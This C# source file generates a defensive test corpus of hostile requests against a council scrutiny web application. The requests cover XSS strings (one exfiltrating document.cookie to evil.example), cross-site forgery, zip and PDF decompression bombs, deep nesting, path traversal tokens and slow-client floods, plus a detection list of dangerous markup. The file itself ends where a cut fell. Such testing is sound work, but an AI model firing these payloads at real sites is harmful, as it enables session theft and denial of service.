using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;
using ScrutinyWorkflow.Testing;

namespace ScrutinyWorkflow.Hardening;

/// <summary>
/// One hostile request and the answer it must get: the status and a phrase of the clear message (or of the
/// redirect's address), and text that must not appear in the answer (script that would run, say).
/// </summary>
internal sealed record HostileCase(string Kind, string Name, Func<CorpusTarget, Task<HttpResponseMessage>> Send, int Status, string Phrase, IReadOnlyList<string>? Absent = null);

/// <summary>
/// The hostile corpus, generated: every kind an outside probe sent (issue 15), in variants, with what each must get.
/// Deterministic (a fixed seed), so a failure names a case that fails again. The short form takes about one case in
/// five of each kind, and the quick variant of the expensive ones.
/// </summary>
internal static class HostileCorpus
{
    private const string NotRecognised = "not recognised";
    private const string CrossSite = "other sites";
    private const string ContentType = "content type is not accepted";
    private const string Expired = "form had expired";

    /// <summary>Script, SVG and CSS that must reach every page and paper as text, never as markup.</summary>
    public static readonly IReadOnlyList<string> Injections =
    [
        "<script>alert('corpus')</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<style>body{display:none}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "\"><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><button>x</button></form>",
        "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
        "<img src=\"x\" onerror=\"fetch('https://evil.example/?'+document.cookie)\">",
    ];

    // "<script>" and not "<script": the pages' own layout loads its module with <script type="module" src=...>.
    /// <summary>What no page or paper may contain once the injections have been through it.</summary>
    public static readonly IReadOnlyList<string> Dangerous =
    [
        "<script>", "<img src=x onerror", "<img src=\"x\" onerror", "<svg", "<iframe", "<object", "<style>body{display", "<meta http-equiv", "<base href", "<link rel=stylesheet",
        "<form action=\"https://evil", "href=\"javascript:", "href=\"data:", "<div style=", "<math",
    ];

    public static IReadOnlyList<HostileCase> Full() => [.. Generate(quick: false)];

    /// <summary>About sixty cases: the first of every five of each kind, and the quick variant of the slow or expensive ones.</summary>
    public static IReadOnlyList<HostileCase> Short() =>
        [.. Generate(quick: true).GroupBy(c => c.Kind).SelectMany(kind => kind.Where((_, i) => i % 5 == 0 || kind.Key == "aftermath"))];

    private static IEnumerable<HostileCase> Generate(bool quick)
    {
        var random = new Random(15);
        var question = 0;
        int Next() => question++;

        // Forged and altered links: not recognised, whatever the token's format.
        foreach (var token in ForgedTokens(random))
        {
            yield return new("forged-link", $"GET /respond/{Shorten(token)}", t => t.Host.Client().GetAsync($"/respond/{token}"), 404, NotRecognised);
        }
        // An encoded NUL in a path is refused by the server itself, before the application, as a malformed request.
        yield return new("forged-link", "a token ending in an encoded NUL", t => t.Host.Client().GetAsync($"/respond/{RandomToken(new Random(3))[..42]}%00"), 400, "");
        yield return new("forged-link", "altered token, one character", t => t.Host.Client().GetAsync(Altered(t.LinkA, 10)), 404, NotRecognised);
        yield return new("forged-link", "altered token, last character", t => t.Host.Client().GetAsync(Altered(t.LinkA, 42)), 404, NotRecognised);
        yield return new("forged-link", "altered token, first character", t => t.Host.Client().GetAsync(Altered(t.LinkA, 0)), 404, NotRecognised);
        yield return new("forged-link", "token cut short by one", t => t.Host.Client().GetAsync(t.LinkA[..^1]), 404, NotRecognised);
        yield return new("forged-link", "token with one more character", t => t.Host.Client().GetAsync(t.LinkA + "A"), 404, NotRecognised);
        yield return new("forged-link", "token in capitals", t => t.Host.Client().GetAsync("/respond/" + Token(t.LinkA).ToUpperInvariant()), 404, NotRecognised);
        yield return new("forged-link", "token reversed", t => t.Host.Client().GetAsync("/respond/" + new string([.. Token(t.LinkA).Reverse()])), 404, NotRecognised);
        yield return new("forged-link", "token with base64 padding", t => t.Host.Client().GetAsync(t.LinkA + "%3D"), 404, NotRecognised);
        yield return new("forged-link", "an answer posted to an altered token", async t =>
        {
            using var form = await t.FormAsync(0);
            return await form.Browser.PostAsync(Altered(t.LinkA, 21), new FormUrlEncodedContent(new Dictionary<string, string>(form.Fields) { ["answer"] = CorpusTarget.Answer("forged") }));
        }, 404, NotRecognised);
        yield return new("forged-link", "an answer posted to a random token", async t =>
        {
            using var form = await t.FormAsync(0);
            return await form.Browser.PostAsync($"/respond/{RandomToken(new Random(7))}", new FormUrlEncodedContent(form.Fields));
        }, 404, NotRecognised);

        // Another review's question, an expired link, a replayed form.
        yield return new("other-review", "review A's assignment through review B's link", async t =>
        {
            // Not A's first: assignment ids are numbered within a review, so B has one of that name.
            using var formA = await t.FormAsync(Next() + 1);
            using var formB = await t.Host.OpenFormAsync(t.LinkB, 0);
            formB.Fields["assignment"] = formA.Fields["assignment"];
            return await formB.SendAsync(CorpusTarget.Answer("other review"));
        }, 400, "not one of yours");
        yield return new("other-review", "an assignment id that does not exist", async t =>
        {
            using var form = await t.FormAsync(Next());
            form.Fields["assignment"] = "as-does-not-exist";
            return await form.SendAsync(CorpusTarget.Answer("made up"));
        }, 400, "not one of yours");
        yield return new("other-review", "no assignment id", async t =>
        {
            using var form = await t.FormAsync(Next());
            form.Fields.Remove("assignment");
            return await form.SendAsync(CorpusTarget.Answer("none"));
        }, 400, "not one of yours");
        yield return new("expired-link", "opening a closed review's link", t => t.Host.Client().GetAsync(t.LinkC), 410, "no longer accepts answers");
        yield return new("expired-link", "answering through a closed review's form", t => t.FormC!.SendAsync(CorpusTarget.Answer("too late")), 409, "closed");
        yield return new("replayed", "the same form sent twice", async t =>
        {
            using var form = await t.FormAsync(Next());
            await form.SendAsync(CorpusTarget.Answer("replayed"));
            return await form.SendAsync(CorpusTarget.Answer("replayed"));
        }, 303, "done=submitted");
        yield return new("replayed", "a form's token without its cookie", async t =>
        {
            using var form = await t.FormAsync(Next());
            using var stranger = t.Host.Client();
            return await stranger.PostAsync(t.LinkA, new FormUrlEncodedContent(new Dictionary<string, string>(form.Fields) { ["answer"] = CorpusTarget.Answer("replay") }));
        }, 400, Expired);
        yield return new("replayed", "a form's token with another browser's cookie", async t =>
        {
            using var form = await t.FormAsync(Next());
            using var other = await t.FormAsync(Next());
            return await other.Browser.PostAsync(t.LinkA, new FormUrlEncodedContent(new Dictionary<string, string>(form.Fields) { ["answer"] = CorpusTarget.Answer("replay") }));
        }, 400, Expired);
        yield return new("replayed", "an altered antiforgery token", async t =>
        {
            using var form = await t.FormAsync(Next());
            var name = form.Fields.Keys.First(k => k.StartsWith("__RequestVerificationToken", StringComparison.Ordinal));
            form.Fields[name] = form.Fields[name][..^4] + "AAAA";
            return await form.SendAsync(CorpusTarget.Answer("altered"));
        }, 400, Expired);
        yield return new("replayed", "no antiforgery token", async t =>
        {
            using var form = await t.FormAsync(Next());
            form.Fields.Remove(form.Fields.Keys.First(k => k.StartsWith("__RequestVerificationToken", StringComparison.Ordinal)));
            return await form.SendAsync(CorpusTarget.Answer("no token"));
        }, 400, Expired);

        // Cross-site requests: refused before anything changes, on every command route.
        foreach (var (method, route) in CommandRoutes)
        {
            foreach (var (variant, build) in CrossSiteVariants)
            {
                var status = variant.StartsWith("json", StringComparison.Ordinal) || variant.StartsWith("form from", StringComparison.Ordinal) ? 403 : 415;
                yield return new("cross-site", $"{method} {route}: {variant}", t =>
                {
                    var request = new HttpRequestMessage(new HttpMethod(method), route.Replace("{d}", t.DraftD, StringComparison.Ordinal)) { Content = build() };
                    AddCrossSiteHeaders(request, variant);
                    return t.Host.Client().SendAsync(request);
                }, status, status == 403 ? CrossSite : ContentType);
            }
        }
        foreach (var (header, value) in new[] { ("Origin", "https://evil.example"), ("Sec-Fetch-Site", "cross-site"), ("Origin", "null") })
        {
            yield return new("cross-site", $"an answer posted from another site ({header}: {value})", async t =>
            {
                using var form = await t.FormAsync(Next());
                var request = new HttpRequestMessage(HttpMethod.Post, t.LinkA) { Content = new FormUrlEncodedContent(new Dictionary<string, string>(form.Fields) { ["answer"] = CorpusTarget.Answer("csrf") }) };
                request.Headers.TryAddWithoutValidation(header, value);
                return await form.Browser.SendAsync(request);
            }, 403, CrossSite);
        }
        yield return new("cross-site", "a report upload without the antiforgery token", t =>
            t.Host.Client().PostAsync("/api/reviews/from-report", Upload("report.txt", Encoding.UTF8.GetBytes("Questions for councillors\n\n- How?\n"))), 400, "antiforgery");
        yield return new("cross-site", "a report upload from another site", async t =>
        {
            var uploader = await t.UploaderAsync();
            var request = new HttpRequestMessage(HttpMethod.Post, "/api/reviews/from-report") { Content = Upload("report.txt", Encoding.UTF8.GetBytes("Questions for councillors\n\n- How?\n")) };
            request.Headers.Add("Origin", "https://evil.example");
            return await uploader.SendAsync(request);
        }, 403, CrossSite);

        // JSON of the wrong type: a 400 naming the field.
        foreach (var (field, json) in WrongTypes)
        {
            yield return new("wrong-json-type", $"{field} as {json}", t => PostJson(t, "/api/reviews", json), 400, field);
        }
        foreach (var (route, field, json) in WrongTypesInCommands)
        {
            yield return new("wrong-json-type", $"{route} {json}", t => PostJson(t, route.Replace("{d}", t.DraftD, StringComparison.Ordinal), json, route == "/api/reviews/{d}/questions" ? HttpMethod.Put : HttpMethod.Post), 400, field);
        }

        // Deep nesting and invalid UTF-8 in JSON.
        foreach (var depth in new[] { 65, 200, 5_000, 100_000 })
        {
            yield return new("deep-json", $"areas nested {depth} arrays deep", t => PostJson(t, "/api/reviews", "{\"areas\":" + new string('[', depth) + new string(']', depth) + "}"), 400, "as a JSON object");
            yield return new("deep-json", $"panel nested {depth} objects deep", t => PostJson(t, "/api/reviews", "{\"panel\":" + Repeat("{\"a\":", depth) + "1" + new string('}', depth) + "}"), 400, "as a JSON object");
        }
        foreach (var (name, bytes) in InvalidUtf8)
        {
            yield return new("invalid-utf8", $"JSON title with {name}", t =>
            {
                var body = Encoding.ASCII.GetBytes("{\"focusReport\":{\"title\":\"Bad ").Concat(bytes).Concat(Encoding.ASCII.GetBytes("\"}}")).ToArray();
                var content = new ByteArrayContent(body);
                content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
                return t.Host.Client().PostAsync("/api/reviews", content);
            }, 400, "focusReport");
        }
        foreach (var (name, escaped) in InvalidUtf8InForms)
        {
            yield return new("invalid-utf8", $"an answer with {name}", async t =>
            {
                using var form = await t.FormAsync(Next());
                var body = string.Join("&", form.Fields.Select(f => $"{Uri.EscapeDataString(f.Key)}={Uri.EscapeDataString(f.Value)}")) + $"&answer={Uri.EscapeDataString(CorpusTarget.Answer("utf8"))}{escaped}";
                return await form.Browser.PostAsync(t.LinkA, new StringContent(body, Encoding.ASCII, "application/x-www-form-urlencoded"));
            }, 303, "done=submitted");
        }

        // Control and bidi characters.
        foreach (var (name, character) in ControlCharacters)
        {
            var refused = character == "\0";
            yield return new("control-characters", $"an answer with {name}", async t =>
            {
                using var form = await t.FormAsync(Next());
                return await form.SendAsync(CorpusTarget.Answer($"before{character}after"));
            }, refused ? 400 : 303, refused ? "cannot be saved" : "done=submitted");
            // Taken as given through the API (JSON can carry any character); the papers leave out what XML cannot hold.
            yield return new("control-characters", $"a question with {name}", async t =>
            {
                var response = await PostJson(t, "/api/reviews", System.Text.Json.JsonSerializer.Serialize(CorpusTarget.Review($"Control {name}", [($"Is{character}this asked?", HostUnderTest.Tom)])));
                t.ReviewsCreated += (int)response.StatusCode == 201 ? 1 : 0;
                return response;
            }, 201, "\"id\"");
        }

        // Script, SVG and CSS in answers and in question text.
        foreach (var injection in Injections)
        {
            yield return new("injection", $"answer {Shorten(injection)}", async t =>
            {
                using var form = await t.FormAsync(Next());
                return await form.SendAsync(CorpusTarget.Answer(injection));
            }, 303, "done=submitted");
            yield return new("injection", $"title and question {Shorten(injection)}", async t =>
            {
                var response = await PostJson(t, "/api/reviews", System.Text.Json.JsonSerializer.Serialize(CorpusTarget.Review($"Title {injection}", [($"Question {injection}?", HostUnderTest.Tom)])));
                t.ReviewsCreated += (int)response.StatusCode == 201 ? 1 : 0;
                return response;
            }, 201, "\"id\"");
        }
        yield return new("injection", "a draft answer", async t =>
        {
            using var form = await t.FormAsync(Next(), "draft");
            return await form.SendAsync($"{CorpusTarget.DraftMarker} {Injections[0]}");
        }, 303, "done=draft");

        // Very long answers, too many fields, slow clients.
        foreach (var length in new[] { 50_000, 50_001, 200_000, 1_000_000, 4_200_000, 20_000_000, 40_000_000 })
        {
            if (quick && length > 4_200_000)
            {
                continue;
            }
            var (status, phrase) = length switch { 50_000 => (303, "done=submitted"), < 4_194_304 => (400, "50,000"), _ => (413, "far too long") };
            yield return new("long-answer", $"{length:N0} characters", async t =>
            {
                var prefix = CorpusTarget.Answer("long");
                if (length > 30_000_000)
                {
                    // Past the server's body limit it answers before the body is sent, so only a raw client hears it.
                    return await RawPost.SendAsync(t.Host.Address, t.LinkA, Encoding.ASCII.GetBytes("answer=" + prefix + new string('x', length)), bytesPerSecond: 0);
                }
                using var form = await t.FormAsync(Next());
                return await form.SendAsync(prefix + new string('x', length - prefix.Length));
            }, status, phrase);
        }
        foreach (var fields in new[] { 1_025, 2_000, 10_000, 100_000 })
        {
            yield return new("field-flood", $"{fields:N0} extra fields", async t =>
            {
                using var form = await t.FormAsync(Next());
                var all = new Dictionary<string, string>(form.Fields) { ["answer"] = CorpusTarget.Answer("flood") };
                for (var i = 0; i < fields; i++)
                {
                    all[$"extra{i}"] = "x";
                }
                return await form.Browser.PostAsync(t.LinkA, new FormUrlEncodedContent(all));
            }, 400, "more fields");
        }
        foreach (var bytesPerSecond in quick ? new[] { 20 } : [20, 50, 100])
        {
            yield return new("slow-client", $"an answer trickling at {bytesPerSecond} bytes a second", async t =>
                await RawPost.SendAsync(t.Host.Address, t.LinkA, Encoding.ASCII.GetBytes("answer=" + CorpusTarget.Answer(new string('s', 20_000))), bytesPerSecond), 408, "too slowly");
        }

        // Whitespace where a review id belongs.
        foreach (var (method, route) in IdRoutes)
        {
            foreach (var blank in new[] { "%20", "%09", "%20%20%20", "%C2%A0", "%E2%80%83", "%E3%80%80", "%0B", "%20%09%20" })
            {
                yield return new("whitespace-id", $"{method} {route.Replace("{id}", blank, StringComparison.Ordinal)}", t =>
                {
                    var request = new HttpRequestMessage(new HttpMethod(method), route.Replace("{id}", blank, StringComparison.Ordinal));
                    if (method != "GET")
                    {
                        request.Content = new StringContent("{\"reason\":\"x\",\"areas\":[]}", Encoding.UTF8, "application/json");
                    }
                    return t.Host.Client().SendAsync(request);
                }, 404, "");
            }
        }

        // Uploads: decompression bombs, deep nesting, files that are not what they say.
        foreach (var expanded in quick ? new[] { 64L << 20 } : [40L << 20, 256L << 20, 1L << 30])
        {
            yield return UploadCase("pdf-bomb", $"a PDF whose one page inflates to {expanded >> 20} MB", "bomb.pdf", () => HostilePdfs.PdfWithExpandingPage(expanded), 400, "pdf-too-large-expanded");
        }
        foreach (var expanded in quick ? new[] { 300L << 20 } : [300L << 20, 1L << 30, 4L << 30])
        {
            yield return UploadCase("docx-bomb", $"a .docx with a part inflating to {expanded >> 20} MB", "bomb.docx", () => DocxBomb(expanded), 400, "docx-too-large-expanded");
        }
        yield return UploadCase("docx-bomb", "a .docx nested 100,000 elements deep", "deep.docx", () => MinimalDocx.Build(Repeat("<w:customXml w:element=\"x\">", 100_000) + "<w:p><w:r><w:t>Deep</w:t></w:r></w:p>" + Repeat("</w:customXml>", 100_000)), 400, "document-nested-too-deeply");
        yield return UploadCase("deep-pdf", "a PDF with an array nested 100,000 deep", "deep.pdf", () => PdfWithPageEntry("/Nested " + new string('[', 100_000) + new string(']', 100_000)), 400, "no text layer");
        yield return UploadCase("deep-pdf", "a PDF whose page tree points at itself", "loop.pdf", () => PdfWithPageEntry("/Kids [2 0 R]"), 400, "");
        yield return UploadCase("deep-markdown", "Markdown quoted 100,000 deep", "deep.md", () => Encoding.UTF8.GetBytes("# Questions for councillors\n\n" + new string('>', 100_000) + " How?\n"), 400, "");
        yield return UploadCase("deep-markdown", "Markdown lists nested 5,000 deep", "deep-list.md", () => Encoding.UTF8.GetBytes("# Questions for councillors\n\n" + string.Concat(Enumerable.Range(0, 5_000).Select(i => new string(' ', i * 2) + "- How?\n"))), 400, "");
        yield return UploadCase("deep-html", "HTML nested 100,000 elements deep", "deep.html", () => Encoding.UTF8.GetBytes("<html><body>" + Repeat("<div>", 100_000) + "How?" + "</body></html>"), 400, "");
        yield return UploadCase("bad-file", "an empty file", "empty.pdf", () => [], 400, "Choose the focus report");
        yield return UploadCase("bad-file", "random bytes named .pdf", "random.pdf", () => RandomBytes(random, 10_000), 400, "");
        yield return UploadCase("bad-file", "a PDF named .docx", "report.docx", () => HostilePdfs.PdfWithExpandingPage(1_000), 400, "content-does-not-match-extension");
        yield return UploadCase("bad-file", "an executable", "report.exe", () => RandomBytes(random, 1_000), 400, "unsupported-format");
        yield return UploadCase("bad-file", "text with no questions", "report.txt", () => Encoding.UTF8.GetBytes("Nothing to ask here.\n"), 400, "no-questions");
        yield return UploadCase("bad-file", "invalid UTF-8 text", "report.txt", () => [.. Encoding.ASCII.GetBytes("Questions for councillors\n\n- How "), 0xC3, 0x28, 0xFF, (byte)'?', (byte)'\n'], 400, "");

        // Afterwards: everything that came in shows as text in the pages and papers, and the review still assembles.
        yield return new("aftermath", "the answer page shows injected answers as text", t => t.Host.Client().GetAsync(t.LinkA), 200, CorpusTarget.AnswerMarker, Dangerous);
        yield return new("aftermath", "review A closes with every answer in", t => PostJson(t, $"/api/reviews/{t.ReviewA}/close", "{\"reason\":\"The corpus is done\"}"), 202, "");
        yield return new("aftermath", "review A's statement shows every injection as text", t => StatementAsync(t, $"/api/reviews/{t.ReviewA}/statement"), 200, "Corpus review A", Dangerous);
        yield return new("aftermath", "the panel's statement page shows every injection as text", t => StatementAsync(t, $"/reviews/{t.ReviewA}/statement"), 200, "Corpus review A", Dangerous);
        yield return new("aftermath", "review A's Word appendix is made", t => StatementAsync(t, $"/api/reviews/{t.ReviewA}/statement.docx"), 200, "");
        // Every review on one page: they were all made at the same (fake) moment, so "newest first" has no order among them.
        yield return new("aftermath", "the home page shows injected titles as text", t => t.Host.Client().GetAsync("/?pageSize=200"), 200, "Corpus review E", Dangerous);
        yield return new("aftermath", "the answer page shows injected questions as text", t => t.Host.Client().GetAsync(t.LinkE), 200, "shown as text", Dangerous);
    }

    private static readonly (string Method, string Route)[] CommandRoutes =
    [
        ("POST", "/api/reviews"), ("PUT", "/api/reviews/{d}/questions"), ("POST", "/api/reviews/{d}/dispatch"), ("POST", "/api/reviews/{d}/close"),
        ("POST", "/api/reviews/{d}/release"), ("POST", "/api/reviews/{d}/deadline"), ("POST", "/api/reviews/{d}/meeting-date"), ("POST", "/api/reviews/{d}/reopen"),
        ("POST", "/api/reviews/{d}/questions"), ("POST", "/api/reviews/{d}/assignments/as-1/reassign"), ("POST", "/api/reviews/{d}/officers/tom.okafor@council.example/remind"),
    ];

    private static readonly (string Variant, Func<HttpContent?> Build)[] CrossSiteVariants =
    [
        ("form post", () => new FormUrlEncodedContent(new Dictionary<string, string> { ["reason"] = "csrf" })),
        ("multipart post", () => new MultipartFormDataContent { { new StringContent("csrf"), "reason" } }),
        ("text/plain", () => new StringContent("{\"reason\":\"csrf\"}", Encoding.UTF8, "text/plain")),
        ("no content type", () => null),
        ("json from Origin https://evil.example", () => new StringContent("{\"reason\":\"csrf\"}", Encoding.UTF8, "application/json")),
        ("json with Sec-Fetch-Site cross-site", () => new StringContent("{\"reason\":\"csrf\"}", Encoding.UTF8, "application/json")),
        ("json with Sec-Fetch-Site same-site", () => new StringContent("{\"reason\":\"csrf\"}", Encoding.UTF8, "application/json")),
        ("form from Origin null", () => new FormUrlEncodedContent(new Dictionary<string, string> { ["reason"] = "csrf" })),
    ];

    private static void AddCrossSiteHeaders(HttpRequestMessage request, string variant)
    {
        if (variant.Contains("Origin https://evil.example", StringComparison.Ordinal))
        {
            request.Headers.Add("Origin", "https://evil.example");
        }
        else if (variant.Contains("Origin null", StringComparison.Ordinal))
        {
            request.Headers.TryAddWithoutValidation("Origin", "null");
        }
        else if (variant.Contains("Sec-Fetch-Site", StringComparison.Ordinal))
        {
            request.Headers.Add("Sec-Fetch-Site", variant[(variant.LastIndexOf(' ') + 1)..]);
        }
    }

    private static readonly (string Field, string Json)[] WrongTypes =
    [
        ("meetingDate", "{\"meetingDate\":20270120}"), ("meetingDate", "{\"meetingDate\":true}"), ("meetingDate", "{\"meetingDate\":[]}"), ("meetingDate", "{\"meetingDate\":{}}"),
        ("deadline", "{\"deadline\":1}"), ("deadline", "{\"deadline\":false}"), ("deadline", "{\"deadline\":[\"2027-01-08\"]}"), ("deadline", "{\"deadline\":{\"d\":1}}"),
        ("areas", "{\"areas\":\"all of them\"}"), ("areas", "{\"areas\":7}"), ("areas", "{\"areas\":{}}"), ("areas", "{\"areas\":true}"),
        ("panel", "{\"panel\":[]}"), ("panel", "{\"panel\":\"x\"}"), ("panel", "{\"panel\":5}"),
        ("focusReport", "{\"focusReport\":[]}"), ("focusReport", "{\"focusReport\":1}"),
        ("focusReport.title", "{\"focusReport\":{\"title\":5}}"), ("panel.email", "{\"panel\":{\"email\":5}}"),
        ("areas[0].heading", "{\"areas\":[{\"heading\":5}]}"), ("areas[0].questions", "{\"areas\":[{\"questions\":\"q\"}]}"),
        ("areas[0].questions[0].text", "{\"areas\":[{\"questions\":[{\"text\":5}]}]}"), ("areas[0].questions[0].text", "{\"areas\":[{\"questions\":[{\"text\":[]}]}]}"),
        ("areas[0].questions[0].officers", "{\"areas\":[{\"questions\":[{\"officers\":\"tom\"}]}]}"),
        ("areas[0].questions[0].officers[0]", "{\"areas\":[{\"questions\":[{\"officers\":[7]}]}]}"), ("areas[0].questions[0].officers[0]", "{\"areas\":[{\"questions\":[{\"officers\":[{}]}]}]}"),
    ];

    private static readonly (string Route, string Field, string Json)[] WrongTypesInCommands =
    [
        ("/api/reviews/{d}/deadline", "deadline", "{\"deadline\":5}"), ("/api/reviews/{d}/meeting-date", "meetingDate", "{\"meetingDate\":[]}"),
        ("/api/reviews/{d}/close", "reason", "{\"reason\":5}"), ("/api/reviews/{d}/reopen", "until", "{\"until\":true}"), ("/api/reviews/{d}/questions", "areas", "{\"areas\":5}"),
    ];

    private static readonly (string Name, byte[] Bytes)[] InvalidUtf8 =
    [
        ("a lone continuation byte", [0x80]), ("an unfinished two-byte sequence", [0xC3, 0x28]), ("an unfinished three-byte sequence", [0xE2, 0x82, 0x28]),
        ("an unfinished four-byte sequence", [0xF0, 0x28, 0x8C, 0xBC]), ("a five-byte sequence", [0xF8, 0xA1, 0xA1, 0xA1, 0xA1]), ("0xFF", [0xFF]),
        ("an encoded surrogate", [0xED, 0xA0, 0x80]), ("an overlong slash", [0xC0, 0xAF]), ("a sequence past U+10FFFF", [0xF4, 0x90, 0x80, 0x80]), ("an overlong NUL", [0xC0, 0x80]),
    ];

    private static readonly (string Name, string Escaped)[] InvalidUtf8InForms =
    [
        ("a lone continuation byte", "%80"), ("an unfinished sequence", "%C3%28"), ("an encoded surrogate", "%ED%A0%80"), ("0xFF", "%FF"),
    ];

    private static readonly (string Name, string Character)[] ControlCharacters =
    [
        ("NUL", "\0"), ("a bell", "\a"), ("an escape sequence", "\u001b[31m"), ("DEL", "\u007f"), ("a next-line control", "\u0085"),
        ("a right-to-left override", "\u202e"), ("bidi isolates", "\u2066\u2067\u2069"), ("a right-to-left mark", "\u200f"), ("a zero-width space", "\u200b"),
        ("a byte-order mark", "\ufeff"), ("a noncharacter", "\uffff"), ("a vertical tab", "\v"),
    ];

    private static readonly (string Method, string Route)[] IdRoutes =
    [
        ("GET", "/api/reviews/{id}"), ("GET", "/api/reviews/{id}/events"), ("GET", "/api/reviews/{id}/statement"), ("GET", "/api/reviews/{id}/statement.docx"),
        ("GET", "/reviews/{id}/statement"), ("POST", "/api/reviews/{id}/dispatch"), ("POST", "/api/reviews/{id}/close"), ("PUT", "/api/reviews/{id}/questions"),
    ];

    private static HostileCase UploadCase(string kind, string name, string fileName, Func<byte[]> bytes, int status, string phrase) =>
        new(kind, name, async t =>
        {
            using var uploader = await t.UploaderAsync();
            return await uploader.PostAsync("/api/reviews/from-report", Upload(fileName, bytes()));
        }, status, phrase);

    private static MultipartFormDataContent Upload(string fileName, byte[] bytes)
    {
        var form = new MultipartFormDataContent
        {
            { new StringContent("Children and Families Scrutiny Panel"), "panelName" },
            { new StringContent("panel@council.example"), "panelEmail" },
            { new StringContent("2027-01-20"), "meetingDate" },
            { new StringContent("2027-01-08"), "deadline" },
        };
        form.Add(new ByteArrayContent(bytes), "file", fileName);
        return form;
    }

    private static Task<HttpResponseMessage> PostJson(CorpusTarget target, string path, string json, HttpMethod? method = null) =>
        target.Host.Client().SendAsync(new HttpRequestMessage(method ?? HttpMethod.Post, path) { Content = new StringContent(json, Encoding.UTF8, "application/json") });

    /// <summary>The statement once assembled (closing is decided at once, assembly follows in the same step).</summary>
    private static async Task<HttpResponseMessage> StatementAsync(CorpusTarget target, string path)
    {
        // A ceiling for a loaded machine, not an expected time: the statement is there within a second when it is quiet.
        for (var until = DateTime.UtcNow.AddMinutes(5); ; await Task.Delay(250))
        {
            var response = await target.Host.Client().GetAsync(path);
            if ((int)response.StatusCode != 404 || DateTime.UtcNow > until)
            {
                return response;
            }
        }
    }

    private static IEnumerable<string> ForgedTokens(Random random)
    {
        for (var i = 0; i < 10; i++)
        {
            yield return RandomToken(random);
        }
        yield return "x";
        yield return new string('A', 43);
        yield return RandomToken(random)[..42] + ".";
        yield return "..%2F..%2Fmail";
        yield return new string('a', 4_000);
        yield return "%F0%9F%94%91" + RandomToken(random)[..39];
    }

    private static string RandomToken(Random random) =>
        new([.. Enumerable.Range(0, 43).Select(_ => "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"[random.Next(64)])]);

    private static string Token(string link) => link[(link.LastIndexOf('/') + 1)..];

    /// <summary>The link with one character of its token changed to another token character.</summary>
    private static string Altered(string link, int position)
    {
        var token = Token(link).ToCharArray();
        token[position] = token[position] == 'A' ? 'B' : 'A';
        return "/respond/" + new string(token);
    }

    private static string Shorten(string text) => text.Length > 40 ? text[..40] + "..." : text;

    private static string Repeat(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();

    private static byte[] RandomBytes(Random random, int count)
    {
        var bytes = new byte[count];
        random.NextBytes(bytes);
        bytes[0] = (byte)'M';
        return bytes;
    }

    /// <summary>A small valid .docx with one more part of zeros that inflates to <paramref name="expandedBytes"/>.</summary>
    private static byte[] DocxBomb(long expandedBytes) => MinimalDocx.Build(
        "<w:p><w:r><w:t>Questions for councillors</w:t></w:r></w:p>",
        zip =>
        {
            using var part = zip.CreateEntry("word/media/image1.bin", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1 << 20];
            for (var written = 0L; written < expandedBytes; written += zeros.Length)
            {
                part.Write(zeros, 0, (int)Math.Min(zeros.Length, expandedBytes - written));
            }
        });

    /// <summary>A one-page PDF whose page dictionary carries <paramref name="entry"/>.</summary>
    private static byte[] PdfWithPageEntry(string entry)
    {
        using var pdf = new MemoryStream();
        var offsets = new List<long>();
        void Write(string text) => pdf.Write(Encoding.ASCII.GetBytes(text));
        void Object(string body)
        {
            offsets.Add(pdf.Position);
            Write($"{offsets.Count} 0 obj\n{body}\nendobj\n");
        }
        Write("%PDF-1.7\n");
        Object("<< /Type /Catalog /Pages 2 0 R >>");
        Object(entry.StartsWith("/Kids", StringComparison.Ordinal) ? $"<< /Type /Pages {entry} /Count 1 >>" : "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        Object($"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> {entry} >>");
        var xref = pdf.Position;
        Write($"xref\n0 {offsets.Count + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            Write($"{offset:D10} 00000 n \n");
        }
        Write($"trailer\n<< /Size {offsets.Count + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return pdf.ToArray();
    }
}

/// <summary>
/// A form post over a bare socket, reading the answer while the body is still going: a slow client (a few bytes a
/// second) or one sending more than the server takes. HttpClient gives up sending when the server answers early and
/// closes, so it never shows the answer; a browser, like this, does.
/// </summary>
internal static class RawPost
{
    public static async Task<HttpResponseMessage> SendAsync(Uri address, string path, byte[] body, int bytesPerSecond)
    {
        using var tcp = new System.Net.Sockets.TcpClient();
        await tcp.ConnectAsync(address.Host, address.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"POST {path} HTTP/1.1\r\nHost: {address.Authority}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {body.Length}\r\nConnection: close\r\n\r\n"));
        using var sending = new CancellationTokenSource();
        var writer = Task.Run(async () =>
        {
            var chunk = bytesPerSecond > 0 ? Math.Max(1, bytesPerSecond / 10) : 64 * 1024;
            for (var sent = 0; sent < body.Length && !sending.IsCancellationRequested; sent += chunk)
            {
                await stream.WriteAsync(body.AsMemory(sent, Math.Min(chunk, body.Length - sent)), sending.Token);
                if (bytesPerSecond > 0)
                {
                    await Task.Delay(100, sending.Token);
                }
            }
        });
        using var answer = new MemoryStream();
        try
        {
            await stream.CopyToAsync(answer);
        }
        catch (IOException)
        {
            // The server closed the connection after answering.
        }
        await sending.CancelAsync();
        try
        {
            await writer;
        }
